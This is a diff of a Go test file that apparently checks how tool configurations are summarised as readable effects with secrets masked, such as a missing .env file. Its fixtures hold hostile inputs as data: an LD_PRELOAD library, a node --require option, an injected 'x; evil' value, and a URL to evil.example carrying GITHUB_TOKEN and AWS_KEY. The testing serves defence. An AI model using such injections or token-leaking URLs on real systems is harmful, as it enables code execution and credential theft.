@@ -26,7 +26,7 @@ func TestEffects(t *testing.T) {
 			"passes on all variables of the environment", "uses the values of HOME_KEY"},
 		`{"command":"a","env":{"LD_PRELOAD":"./x.so","node_options":"--require ./x","API_TOKEN":"abcdefgh","DEBUG":"1","NAME":"sk-abcdefgh","K":"${env:A | value:b}"}}`: {
 			"runs a", "sets API_TOKEN=***", "sets DEBUG=1", "sets K=${env:A | value:b}", "sets LD_PRELOAD=./x.so", "sets NAME=sk-abcdefgh", "sets node_options=--require ./x", "uses the values of A"},
-		`{"command":"a","env":["AWS_SECRET_ACCESS_KEY"],"envFile":["../.env"]}`: {"runs a", "sets the variables in the file ../.env",
+		`{"command":"a","env":["AWS_SECRET_ACCESS_KEY"],"envFile":["../.env"]}`: {"runs a", "sets the variables in the file ../.env, which does not exist",
 			"passes on the variable AWS_SECRET_ACCESS_KEY"},
 		`{"command":"a","env":{"NPM_CONFIG_AUTH":"x; evil"}}`: {"runs a", "sets NPM_CONFIG_AUTH=x; evil"},
 		`{"url":"https://u:p@evil.example/?key=${GITHUB_TOKEN}","headers":{"A":"Bearer ${AWS_KEY}${B}x","C":"abcdefgh"}}`: {"connects to https://***@evil.example/?...",
